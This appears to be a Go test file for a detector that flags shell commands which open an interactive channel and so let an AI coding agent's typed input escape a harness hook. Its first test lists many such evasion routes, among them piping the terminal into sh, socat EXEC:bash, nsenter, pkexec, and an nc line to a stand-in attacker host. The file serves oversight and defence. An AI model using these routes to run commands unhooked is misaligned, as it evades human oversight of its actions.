package shellcmd

import "testing"

// Review of TG-CHAN-001 (stop 45; FAILS on fb59c1d): command lines that leave a program
// reading what Codex's write_stdin types (exec_command tty=true), which
// Interactive does not report. Each runs every later typed line unhooked.
func TestInteractiveReviewMissedChannels(t *testing.T) {
	for _, l := range []string{
		// a shell's -c / eval / a sourced terminal starting the program
		"bash -c python3", "sh -c 'psql app_dev'", "bash -lc bash", "eval python3", "eval bash",
		// the terminal named as the script or as the redirected input (a pty: /dev/tty is the terminal)
		"bash /dev/stdin", "python3 /dev/stdin", "node /dev/stdin", "sh /dev/tty", ". /dev/stdin", "source /dev/tty",
		"sh < /dev/tty", "python3 - < /dev/tty", "psql app -f -", "psql app -f /dev/stdin",
		// programs that copy the terminal into a pipe, other than cat/tee
		"cat /dev/stdin | sh", "cat /dev/tty | bash", "head -n 1000 | sh", "dd status=none | sh", "awk 1 | sh",
		"sed -u '' | bash", "grep --line-buffered '' | sh", "stdbuf -o0 cat | sh", "tr a a | sh",
		// loops and line runners reading the terminal
		"while read -r l; do eval \"$l\"; done", "while read l; do sh -c \"$l\"; done", "xargs -L1 sh -c",
		"xargs -I{} sh -c '{}'", "awk '{system($0)}'", "sed e", "perl -ne 'system $_'", "ruby -ne 'system $_'",
		"python3 -c 'import os,sys\nfor l in sys.stdin: os.system(l)'",
		"sh -c \"$(cat)\"",
		// wrappers that start a shell or pass the terminal on
		"script -q /dev/null", "script -qc bash /dev/null", "rlwrap python3", "rlwrap nc evil.example 4444", "expect",
		"socat - EXEC:bash", "socat STDIO EXEC:'bash -li',pty", "busybox sh", "busybox ash", "newgrp docker", "sg docker bash",
		"chroot / bash", "unshare -r bash", "nsenter -t 1 -a", "flock /tmp/l bash", "pkexec bash", "runuser -u app bash",
		"strace -f bash", "taskset -c 0 bash", "ionice -c3 bash", "fakeroot", "nix-shell", "nix develop", "poetry shell",
		"pipenv shell", "vagrant ssh", "gcloud compute ssh vm-1", "aws ssm start-session --target i-123", "fly ssh console",
		"heroku run bash", "oc rsh pod-1", "docker-compose exec web sh", "docker start -ai c1",
		"python3 manage.py shell", "python3 manage.py dbshell", "php artisan tinker", "python3 -m pdb app.py",
		"python3 -m code", "python3 -m asyncio", "python3 -m IPython", "node inspect app.js", "ts-node", "tsx",
		"swift", "groovysh", "sbt", "lein repl", "jupyter console", "cabal repl", "stack ghci", "dotnet fsi",
		"mysqlsh", "sqlplus scott/tiger", "cypher-shell", "valkey-cli", "bash -c 'exec \"$0\"' python3",
		// an option leaves the REPL open after it runs something
		"iex -S mix", "gdb -ex run ./app", "gdb -x init.gdb ./app", "lldb -o run ./app", "sqlite3 -cmd '.mode csv' dev.db",
		"sqlite3 -init setup.sql dev.db", "duckdb -init setup.sql", "mongosh --nodb", "mongo --shell --eval 1", "lua -i -e 'x=1'",
		"julia -i -e 'x=1'", "erl -s app", "racket -i -e 1",
		// options before the subcommand or a valued option before -it
		"kubectl -n prod exec -it pod-1 -- sh", "kubectl --context prod exec -it pod-1 -- sh", "docker -H ssh://h exec -it c1 sh",
		"docker run -e A=1 -it ubuntu bash", "docker run --name t -it ubuntu bash", "docker exec -u root -it web bash",
		"docker run -v /src:/src -it ubuntu", "podman run -w /src -it fedora bash", "kubectl debug -it node/n1 --image=busybox",
		"kubectl debug pod-1 -it --image=busybox",
		// ssh with a command that is itself a shell or a REPL
		"ssh build-box bash", "ssh build-box sh -i", "ssh -t build-box sudo -i", "ssh build-box python3", "ssh build-box -- bash -l",
		// a program named through an expansion
		"$SHELL", "\"$SHELL\" -l", "${SHELL:-bash}", "$(command -v python3)", "`which bash`",
		// Windows (Codex's default shell there is PowerShell; the hook sees only cmd)
		"cmd", "cmd.exe", "wsl", "wsl.exe", "powershell.exe -NoExit -Command Get-Date", "pwsh -NoExit -c 'x'",
	} {
		if !Interactive(l) {
			t.Errorf("Interactive(%q) = false: a channel write_stdin types into", l)
		}
	}
}

// Review of TG-CHAN-001 (FAILS on fb59c1d): ordinary Codex commands Interactive reports,
// which TG-CHAN-001 denies though nothing reads what is typed.
func TestInteractiveReviewFalsePositives(t *testing.T) {
	for _, l := range []string{
		"tmux new-session -d -s dev 'npm run dev'", "tmux new -d -s srv", "nc -z localhost 5432", "nc -zv db 5432",
		"nc -w 2 -z host 443", "ruby -v", "perl -v", "php -v", "php -m", "php -i", "lua -v", "redis-cli -v", "julia -v",
		"python3 -VV", "emacs --batch -l ert -f ert-run-tests-batch-and-exit", "nvim --headless -c 'Lazy sync' -c qa",
		"vim -es -c 'set ff=unix' -c wq file.txt",
		"ssh -O check build-box",
		// a container given its command: its stdin is attached, but nothing reads it
		"docker run --rm -it node:20 npm test",
		"docker run --rm -i -v $PWD:/w img make",
	} {
		if Interactive(l) {
			t.Errorf("Interactive(%q) = true: nothing reads the terminal", l)
		}
	}
}
